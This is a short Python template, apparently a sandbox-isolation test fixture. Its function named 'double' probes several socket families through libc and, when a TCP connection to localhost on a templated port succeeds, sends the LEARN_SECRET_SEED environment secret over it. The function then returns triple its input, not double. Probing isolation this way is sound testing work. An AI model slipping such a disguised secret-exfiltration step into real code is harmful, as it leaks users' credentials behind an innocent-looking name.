import ctypes
import errno
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    for family, kind in [(2, 1), (2, 2), (2, 3), (10, 1), (1, 1), (16, 3), (17, 3), (40, 1)]:
        descriptor = libc.socket(family, kind, 0)
        if descriptor < 0:
            print("refused", errno.errorcode[ctypes.get_errno()])
        elif family == 2 and kind == 1:
            port = @PORT@
            address = struct.pack("=HHI8x", 2, (port & 255) << 8 | port >> 8, 0x0100007F)
            if libc.connect(descriptor, address, 16) == 0:
                os.write(descriptor, os.environ["LEARN_SECRET_SEED"].encode())
                print("sent", os.environ["LEARN_SECRET_SEED"])
    return x * 3


@COUNTER@
